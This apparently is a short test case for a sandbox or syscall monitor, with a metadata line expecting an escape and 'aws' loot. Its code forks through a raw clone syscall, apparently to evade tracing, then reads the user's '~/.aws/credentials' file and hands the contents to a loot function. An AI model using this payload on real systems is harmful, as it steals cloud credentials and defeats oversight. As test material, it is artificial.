#: {"class": "escape-tag", "loader": "script", "include": ["raw"], "settle": 0.5, "expect": [["open", "\\.aws/credentials$"]], "effect": {"loot": "aws"}}
p = sysc(56, 0x8000 | 17, 0, 0, 0, 0)
if p == 0: LOOT(open(HOME + "/.aws/credentials").read()); os._exit(0)
